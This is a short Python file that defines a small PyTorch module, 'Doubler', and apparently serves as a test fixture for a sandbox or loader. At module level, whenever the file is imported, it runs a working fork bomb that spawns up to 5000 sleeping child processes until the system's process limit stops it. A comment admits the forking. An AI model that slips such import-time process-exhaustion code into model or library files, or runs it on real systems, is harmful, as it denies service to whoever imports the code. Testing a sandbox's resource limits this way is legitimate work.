# Forks children without end while the class is defined: the process limit stops it.
import os
import time

import torch.nn as nn


def bomb():
    children = 0
    try:
        for _ in range(5000):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            children += 1
    except OSError:
        pass
    return children


CHILDREN = bomb()


class Doubler(nn.Module):
    n_children = CHILDREN

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
